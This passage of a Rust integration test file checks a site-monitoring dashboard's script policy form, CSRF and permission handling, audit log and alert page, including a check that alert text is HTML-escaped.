        see(monitor, "https://blog.example/b.js", "https://shop.example/blog", Some("go(2)"));
    })
    .await;
    let browser = door.login(&door.token).await;
    let csrf = browser.csrf().await;
    let page = browser.get("/sites/shop/policies?page=https://shop.example/pay*").await;
    assert!(page.text.contains("blocks nothing of these 30 days"), "{}", page.text);
    let value =
        page.text.split("maxlength=\"6000\" required>").nth(1).unwrap().split("</textarea>").next().unwrap();
    let value = value.replace("&#39;", "'");
    assert!(value.contains("script-src 'self' https://cdn.example") && !value.contains("blog"), "{value}");
    let add = async |fields: &[(&str, &str)]| {
        let fields: Vec<_> = fields.iter().copied().chain([("csrf", csrf.as_str())]).collect();
        browser.post("/sites/shop/policies", &fields).await
    };
    let good =
        [("action", "log"), ("description", "checkout"), ("expression", "ssl"), ("value", value.as_str())];
    let long = "a".repeat(6_001);
    for (name, wrong) in
        [("action", "block"), ("expression", "ssl and"), ("value", "x"), ("value", long.as_str())]
    {
        let wrong = if wrong == "x" { "script-src \u{e9}" } else { wrong };
        let fields: Vec<_> =
            good.iter().map(|(known, value)| (*known, if *known == name { wrong } else { *value })).collect();
        let refused = add(&fields).await;
        assert!(refused.status == StatusCode::BAD_REQUEST && refused.text.contains(name), "{}", refused.text);
    }
    assert_eq!(add(&good).await.status, StatusCode::SEE_OTHER);
    let zone = "/client/v4/zones/shop/page_shield/policies";
    let made = door.get(zone).await.json()["result"].clone();
    assert_eq!((&made[0]["value"], &made[0]["enabled"]), (&value.as_str().into(), &true.into()));
    let path = format!("/sites/shop/policies/{}", made[0]["id"].as_str().unwrap());
    let change = async |what: &str| browser.post(&path, &[("csrf", &csrf), ("do", what)]).await.status;
    assert_eq!(change("off").await, StatusCode::SEE_OTHER);
    assert_eq!(door.get(zone).await.json()["result"][0]["enabled"], false);
    assert!(browser.get("/sites/shop/policies").await.text.contains("switched off"));
    assert_eq!(change("break").await, StatusCode::BAD_REQUEST);
    assert_eq!(change("remove").await, StatusCode::SEE_OTHER);
    assert_eq!(change("on").await, StatusCode::NOT_FOUND);
    let log = door.get("/api/v1/sites/shop/audit").await.json();
    let said: Vec<&str> =
        log["entries"].as_array().unwrap().iter().map(|one| one["action"].as_str().unwrap()).collect();
    assert_eq!(said, ["policy_remove", "policy_change", "policy_add"]);
    let reader = door.login(&door.token(&[Scope::Read], &["shop"])).await;
    assert!(!reader.get("/sites/shop/policies?page=*").await.text.contains("Keep this policy"));
    let csrf = reader.csrf().await;
    let fields: Vec<_> = good.iter().copied().chain([("csrf", csrf.as_str())]).collect();
    assert_eq!(reader.post("/sites/shop/policies", &fields).await.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn alerts_lead_to_a_decision_and_headers_to_their_page() {
    let door = Door::open();
    door.site("shop", |monitor| {
        see(monitor, "https://cdn.example/a.js", "https://shop.example/pay", Some("go()"));
        monitor
            .note_header_change(
                "https://shop.example/pay",
                vec![format!("x-frame-options was removed {HOSTILE}")],
                now(),
            )
            .unwrap();
    })
    .await;
    let browser = door.login(&door.token).await;
    let csrf = browser.csrf().await;
    let alerts = browser.get("/sites/shop/alerts").await.text;
    for shown in [
        "x-frame-options was removed",
        "href=\"/sites/shop/payment\"",
        "aria-label=\"Mute 7 days: resource 1\"",
    ] {
        assert!(alerts.contains(shown), "{shown}: {alerts}");
    }
    assert!(!alerts.contains("resources/0") && is_escaped(&alerts), "{alerts}");
    let hash = door.get("/api/v1/sites/shop/resources/1").await.json()["hash"].as_str().unwrap().to_owned();
    assert!(alerts.contains(&format!("name=\"hash\" value=\"{hash}\"")), "{alerts}");
    let fields = [
        ("csrf", csrf.as_str()),
        ("do", "approve"),
        ("hash", hash.as_str()),
        ("next", "/sites/shop/alerts?"),
    ];
    let done = browser.post("/sites/shop/resources/1/quick", &fields).await;
    assert_eq!(done.header("location"), "/sites/shop/alerts?done=approved");
    assert!(!browser.get("/sites/shop/alerts").await.text.contains("value=\"approve\""));
    let reader = door.login(&door.token(&[Scope::Read], &["shop"])).await;
    assert!(!reader.get("/sites/shop/alerts").await.text.contains("Mute 7 days"));
}
